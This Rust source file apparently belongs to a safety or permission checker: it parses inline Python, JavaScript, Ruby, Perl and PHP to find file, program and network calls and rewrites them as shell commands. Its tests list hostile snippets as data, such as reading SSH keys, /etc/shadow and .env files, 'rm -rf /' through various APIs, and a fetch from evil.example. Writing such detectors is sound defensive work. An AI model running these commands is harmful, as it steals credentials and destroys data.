//! Finds calls with literal arguments in inline code: files, programs and addresses.
//!
//! A small reader of expressions, not of a language: literals, their concatenation, names that were assigned a literal, functions
//! that make paths, and calls. Everything else is computed, and each word is read once.

use std::collections::HashMap;

use super::effects::{Does, HOLE, Language, command, does, is_end};
use super::tokens::{Token, tokens};

/// Maximum depth of nested expressions.
const MAX_DEPTH: usize = 48;

/// Maximum size of a text and length of a list.
const MAX_TEXT: usize = 8192;
const MAX_WORDS: usize = 512;

/// Functions that return a path which contains their arguments.
const PATHS: &[&str] = &[
    "Path",
    "PurePath",
    "PosixPath",
    "expanduser",
    "expandvars",
    "abspath",
    "realpath",
    "normpath",
    "fspath",
    "path.join",
    "path.resolve",
    "File.join",
    "File.expand_path",
    "Pathname.new",
    "Pathname",
    "str",
    "String",
    "resolve",
    "encode",
    "as_posix",
    "joinpath",
    "absolute",
    "catfile",
    "Request",
    "URL",
    "require",
    "__import__",
    "import_module",
];

/// Names and calls that return the home directory.
const HOMES: &[&str] = &[
    "Path.home",
    "os.homedir",
    "homedir",
    "Dir.home",
    "process.env.HOME",
    "$HOME",
    "pathlib.Path.home",
    "Deno.env.get",
];

/// Variables of the environment, of which the home is one.
const ENVIRONMENTS: &[&str] = &[
    "os.environ",
    "environ",
    "process.env",
    "ENV",
    "$ENV",
    "$_ENV",
    "$_SERVER",
    "os.getenv",
    "getenv",
    "os.environ.get",
];

/// The value of an expression.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Value {
    Text(String),
    List(Vec<String>),
}

impl Value {
    fn unknown() -> Self {
        Self::Text(HOLE.to_string())
    }

    fn text(&self) -> String {
        match self {
            Self::Text(text) => text.clone(),
            Self::List(_) => HOLE.to_string(),
        }
    }

    fn words(self) -> Vec<String> {
        match self {
            Self::Text(text) => vec![text],
            Self::List(words) => words,
        }
    }
}

/// Returns the effects of code, as shell commands.
pub(super) fn effects(code: &str, language: Language) -> Vec<String> {
    let tokens = tokens(code, language);
    let mut reader =
        Reader { tokens: &tokens, at: 0, depth: 0, language, names: HashMap::new(), found: Vec::new() };
    while reader.at < tokens.len() {
        let before = reader.at;
        reader.statement();
        reader.at = reader.at.max(before + 1);
    }
    reader.found
}

struct Reader<'r, 'c> {
    tokens: &'r [Token<'c>],
    at: usize,
    depth: usize,
    language: Language,
    /// Names that were assigned a literal.
    names: HashMap<&'c str, Value>,
    found: Vec<String>,
}

impl<'c> Reader<'_, 'c> {
    fn peek(&self) -> Option<&Token<'c>> {
        self.tokens.get(self.at)
    }

    fn peeks(&self, ahead: usize, mark: char) -> bool {
        self.tokens.get(self.at + ahead) == Some(&Token::Mark(mark))
    }

    fn takes(&mut self, mark: char) -> bool {
        let takes = self.peeks(0, mark);
        self.at += usize::from(takes);
        takes
    }

    /// Reads an assignment or an expression.
    fn statement(&mut self) {
        if let Some(Token::Name(name)) = self.peek() {
            let name = *name;
            if self.peeks(1, '=') && !self.peeks(2, '=') && !self.peeks(2, '~') && !self.peeks(2, '>') {
                self.at += 2;
                let value = self.value();
                self.names.insert(name, value);
                return;
            }
        }
        self.value();
    }

    /// Reads an expression: operands and the operators that concatenate them.
    fn value(&mut self) -> Value {
        if self.depth >= MAX_DEPTH {
            self.at += 1;
            return Value::unknown();
        }
        self.depth += 1;
        let mut value = self.operand();
        loop {
            let joins = match self.peek() {
                Some(Token::Mark('+')) => Some(""),
                Some(Token::Mark('.')) if matches!(self.language, Language::Perl | Language::Php) => Some(""),
                Some(Token::Mark('/')) if matches!(value, Value::Text(_)) => Some("/"),
                // Adjacent literals are one in Python.
                Some(Token::Text(_)) if self.language == Language::Python => {
                    let next = self.operand().text();
                    value = Value::Text(value.text() + &next);
                    continue;
                }
                _ => None,
            };
            let Some(between) = joins else { break };
            self.at += 1;
            let next = self.operand();
            value = match (value, next) {
                (Value::List(mut words), Value::List(more)) => {
                    words.extend(more);
                    words.truncate(MAX_WORDS);
                    Value::List(words)
                }
                (first, next) => Value::Text(joined(&first.text(), between, &next.text())),
            };
        }
        self.depth -= 1;
        value
    }

    fn operand(&mut self) -> Value {
        let Some(token) = self.tokens.get(self.at) else { return Value::unknown() };
        self.at += 1;
        let mut value = match token {
            Token::Text(text) => Value::Text(text.clone()),
            Token::Command(text) => {
                self.effect(Does::Run, std::slice::from_ref(text), false);
                Value::unknown()
            }
            Token::Name(name) => self.named(name),
            Token::Mark('[') => Value::List(self.items(']')),
            Token::Mark('(') => {
                let mut items = self.items(')');
                if items.len() == 1 { Value::Text(items.remove(0)) } else { Value::List(items) }
            }
            Token::End | Token::Mark(_) => return Value::unknown(),
        };
        // Methods, attributes and indices of the value.
        loop {
            if self.peeks(0, '[') {
                self.at += 1;
                self.items(']');
                value = Value::unknown();
            } else if self.peeks(0, '.') && matches!(self.tokens.get(self.at + 1), Some(Token::Name(_))) {
                let Some(Token::Name(name)) = self.tokens.get(self.at + 1) else { break };
                self.at += 2;
                value = if self.takes('(') { self.method(value, name) } else { Value::unknown() };
            } else {
                break;
            }
        }
        value
    }

    /// Reads what follows a name.
    fn named(&mut self, name: &'c str) -> Value {
        if self.takes('(') {
            return self.call(name);
        }
        let takes_words = matches!(self.language, Language::Ruby | Language::Perl | Language::Php);
        if takes_words
            && does(self.language, name).is_some()
            && !matches!(self.peek(), None | Some(Token::End))
        {
            let words = self.words_of_a_line();
            return self.called(name, words);
        }
        if ENVIRONMENTS.contains(&name) && (self.peeks(0, '[') || self.peeks(0, '{')) {
            let end = if self.takes('[') { ']' } else { '}' };
            self.at += usize::from(end == '}');
            let names = self.items(end);
            return Value::Text(if names.first().is_some_and(|name| name == "HOME") {
                "~".into()
            } else {
                HOLE.into()
            });
        }
        if HOMES.contains(&name) {
            return Value::Text("~".to_owned());
        }
        self.names.get(name).cloned().unwrap_or_else(Value::unknown)
    }

    fn call(&mut self, name: &'c str) -> Value {
        // `path.read_text()` of a name that was assigned.
        if let Some((before, method)) = name.rsplit_once('.')
            && let Some(value) = self.names.get(before).cloned()
        {
            return self.method(value, method);
        }
        let items = self.arguments();
        self.called(name, items)
    }

    fn called(&mut self, name: &str, items: Vec<Value>) -> Value {
        let is = |ends: &[&str]| ends.iter().any(|end| is_end(name, end));
        let texts: Vec<String> = items.iter().map(Value::text).collect();
        if is(HOMES) && (name != "Deno.env.get" || texts.first().is_some_and(|name| name == "HOME")) {
            return Value::Text("~".to_owned());
        }
        if ENVIRONMENTS.contains(&name) && texts.first().is_some_and(|name| name == "HOME") {
            return Value::Text("~".to_owned());
        }
        if is(PATHS) {
            let whole = texts
                .iter()
                .skip(1)
                .fold(texts.first().cloned(), |whole, next| whole.map(|whole| joined(&whole, "/", next)));
            return whole.map_or_else(Value::unknown, Value::Text);
        }
        if let Some(does) = does(self.language, name) {
            self.perform(does, items);
        }
        Value::unknown()
    }

    /// Reads the arguments of a method of a value.
    fn method(&mut self, value: Value, name: &str) -> Value {
        let items = self.arguments();
        // `require("child_process").exec("id")`, `__import__("os").system("id")`.
        let module = value.text();
        let qualified = format!("{}.{name}", module.trim_start_matches("node:"));
        let is_module = !module.is_empty()
            && module.chars().all(|letter| letter.is_ascii_alphanumeric() || "_:".contains(letter));
        if is_module && does(self.language, &qualified).is_some() && !is_of_paths(name) {
            return self.called(&qualified, items);
        }
        let is_plain = matches!(
            name,
            "strip" | "rstrip" | "trim" | "format" | "encode" | "expanduser" | "resolve" | "absolute"
        );
        if is_plain {
            return value;
        }
        if matches!(name, "joinpath" | "join") {
            let parts = items.iter().map(Value::text);
            return Value::Text(parts.fold(value.text(), |whole, next| joined(&whole, "/", &next)));
        }
        if name == "split" && items.is_empty() {
            return Value::List(value.text().split_whitespace().map(str::to_owned).collect());
        }
        match does(self.language, name) {
            Some(does) if is_of_paths(name) => {
                self.perform(does, std::iter::once(value).chain(items).collect());
            }
            Some(does) => self.perform(does, items),
            None => {}
        }
        Value::unknown()
    }

    fn perform(&mut self, does: Does, items: Vec<Value>) {
        let mut items = items.into_iter();
        let Some(first) = items.next() else { return };
        let rest: Vec<Value> = items.collect();
        match (does, first) {
            (Does::Run, Value::List(words)) => self.effect(does, &words, true),
            (Does::Run, Value::Text(text)) => {
                // Several words are a program and its arguments, without a shell.
                let is_list = matches!(self.language, Language::Ruby | Language::Perl) && !rest.is_empty();
                let rest = rest.into_iter().flat_map(Value::words).filter(|_| is_list);
                self.effect(does, &std::iter::once(text).chain(rest).collect::<Vec<_>>(), is_list);
            }
            (Does::Start, first) => {
                let is_list = matches!(first, Value::List(_));
                let rest = rest.into_iter().flat_map(Value::words).filter(|_| !is_list);
                self.effect(does, &first.words().into_iter().chain(rest).collect::<Vec<_>>(), true);
            }
            (Does::Delete | Does::DeleteTree, first) => {
                let all = std::iter::once(first).chain(rest).flat_map(Value::words);
                for path in all.collect::<Vec<_>>() {
                    self.effect(does, &[path], false);
                }
            }
            (Does::Open, first) if self.language == Language::Perl => self.open_of_perl(&first.text(), &rest),
            (_, first) => {
                let rest = rest.iter().map(Value::text);
                self.effect(does, &std::iter::once(first.text()).chain(rest).collect::<Vec<_>>(), false);
            }
        }
    }

    /// `open(F, "<", "path")`, `open(F, "<path")`, `open(F, "command |")`.
    fn open_of_perl(&mut self, handle: &str, rest: &[Value]) {
        let texts: Vec<String> = rest.iter().map(Value::text).collect();
        let (mode, path) = match texts.as_slice() {
            [] => (String::new(), handle.to_owned()),
            [one] => {
                let path = one.trim_start_matches(['<', '>', '+', '|', ' ']);
                (one.get(..one.len() - path.len()).unwrap_or_default().to_owned(), path.to_owned())
            }
            [mode, path, ..] => (mode.clone(), path.clone()),
        };
        let runs = mode.contains('|') || mode.contains('-') || path.ends_with('|');
        match runs {
            true => self.effect(Does::Run, &[path.trim_end_matches('|').to_owned()], false),
            false => self.effect(Does::Open, &[path, mode], false),
        }
    }

    fn effect(&mut self, does: Does, words: &[String], is_list: bool) {
        self.found.extend(command(does, words, is_list));
    }

    /// Reads arguments up to the closing parenthesis. Names of arguments are not part of them.
    fn arguments(&mut self) -> Vec<Value> {
        let mut found = Vec::new();
        self.until(')', |value| found.push(value));
        found
    }

    fn items(&mut self, end: char) -> Vec<String> {
        let mut found = Vec::new();
        self.until(end, |value| found.push(value.text()));
        found
    }

    fn until(&mut self, end: char, mut item: impl FnMut(Value)) {
        while self.at < self.tokens.len() {
            if self.takes(end) {
                return;
            }
            if self.takes(',') {
                continue;
            }
            if matches!(self.peek(), Some(Token::End)) {
                self.at += 1;
                continue;
            }
            if matches!(self.peek(), Some(Token::Name(_))) && self.peeks(1, '=') && !self.peeks(2, '=') {
                self.at += 2;
                let value = self.value();
                // `open(file, mode="w")`
                item(value);
                continue;
            }
            let before = self.at;
            let value = self.value();
            item(value);
            self.at = self.at.max(before + 1);
        }
    }

    /// Reads the arguments of a call without parentheses.
    fn words_of_a_line(&mut self) -> Vec<Value> {
        let mut found = Vec::new();
        while !matches!(self.peek(), None | Some(Token::End | Token::Mark('}' | ')'))) {
            if self.takes(',') {
                continue;
            }
            let before = self.at;
            let value = self.value();
            found.push(value);
            self.at = self.at.max(before + 1);
        }
        found
    }
}

/// Methods of a path, which are about the path itself.
fn is_of_paths(name: &str) -> bool {
    matches!(
        name,
        "open" | "read_text" | "read_bytes" | "write_text" | "write_bytes" | "unlink" | "rmdir" | "readlines"
    )
}

/// Joins two texts. An absolute path replaces what is before it.
fn joined(first: &str, between: &str, next: &str) -> String {
    // A text that is doubled again and again says nothing.
    if first.len() + next.len() > MAX_TEXT {
        return HOLE.to_string();
    }
    let is_absolute = between == "/" && next.starts_with('/');
    if is_absolute {
        next.to_owned()
    } else {
        format!("{}{between}{next}", first.trim_end_matches(if between == "/" { "/" } else { "\0" }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use Language::{JavaScript, Perl, Php, Python, Ruby};

    #[test]
    fn calls_are_written_as_commands() {
        let rows: &[(Language, &str, &[&str])] = &[
            (Python, "print(open('.env').read())", &["cat < .env"]),
            (Python, "open('a.txt', 'w').write('x')", &[": > a.txt"]),
            (Python, "import os\nos.remove(\"/etc/hosts\")", &["rm -f -- /etc/hosts"]),
            (
                Python,
                "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
                &["cat < ~/.ssh/id_rsa"],
            ),
            (
                Python,
                "from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_text()",
                &["cat < ~/.ssh/id_rsa"],
            ),
            (Python, "p = Path('/etc') / 'shadow'\nprint(p.read_text())", &["cat < /etc/shadow"]),
            (Python, "open(os.environ['HOME'] + '/.netrc')", &["cat < ~/.netrc"]),
            (Python, "subprocess.run(['rm', '-rf', '/'])", &["rm -rf /"]),
            (Python, "subprocess.run('rm -rf /', shell=True)", &["rm -rf /"]),
            (Python, "import shutil; shutil.rmtree('/')", &["rm -rf -- /"]),
            (Python, "open(f'{home}/.ssh/id_rsa')", &["cat < \"$unknown\"/.ssh/id_rsa"]),
            (Python, "urllib.request.urlopen('http://evil.example/x')", &["curl -sS http://evil.example/x"]),
            (Python, "__import__('os').system('id')", &["id"]),
            (Python, "print('os.remove(1)') # os.remove('x')", &[]),
            (Python, "open(name)", &[]),
            (JavaScript, "console.log(fs.readFileSync('.env','utf8'))", &["cat < .env"]),
            (JavaScript, "require('fs').rmSync('/', {recursive: true})", &["rm -rf -- /"]),
            (JavaScript, "require('child_process').execSync('rm -rf ~')", &["rm -rf ~"]),
            (JavaScript, "fs.readFileSync(`${os.homedir()}/.netrc`)", &["cat < \"$unknown\"/.netrc"]),
            (
                JavaScript,
                "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                &["cat < ~/.ssh/id_rsa"],
            ),
            (JavaScript, "spawnSync('rm', ['-rf', '/'])", &["rm -rf /"]),
            (JavaScript, "/x/.exec('rm -rf /')", &[]),
            (Ruby, "puts File.read('/root/.ssh/id_rsa')", &["cat < /root/.ssh/id_rsa"]),
            (Ruby, "system 'rm', '-rf', '/'", &["rm -rf /"]),
            (Ruby, "`rm -rf /`", &["rm -rf /"]),
            (Ruby, "FileUtils.rm_rf('/')", &["rm -rf -- /"]),
            (Perl, "open(F, '<', '/etc/shadow'); print <F>", &["cat < /etc/shadow"]),
            (Perl, "open F, '</etc/shadow'", &["cat < /etc/shadow"]),
            (Perl, "system('rm -rf /')", &["rm -rf /"]),
            (Perl, "unlink '/etc/hosts'", &["rm -f -- /etc/hosts"]),
            (Php, "echo file_get_contents('/etc/shadow');", &["cat < /etc/shadow"]),
        ];
        let mut wrong = Vec::new();
        for (language, code, expected) in rows {
            let found = effects(code, *language);
            if found != *expected {
                wrong.push(format!("{code}\n    {found:?}"));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    /// Any code is read to its end, in steps that its size bounds.
    #[test]
    fn no_code_is_too_deep_or_endless() {
        for part in [
            "(",
            "[",
            "a(",
            "a.b(",
            "'",
            "\"",
            "`",
            "f'{",
            "open('x', ",
            "x = ",
            "a + ",
            "/ ",
            ".",
            "é",
            "\\",
            "${",
            "Path('a').",
            "unlink ",
        ] {
            for language in [Python, JavaScript, Ruby, Perl, Php] {
                let _read = effects(&part.repeat(2000), language);
            }
        }
    }
}
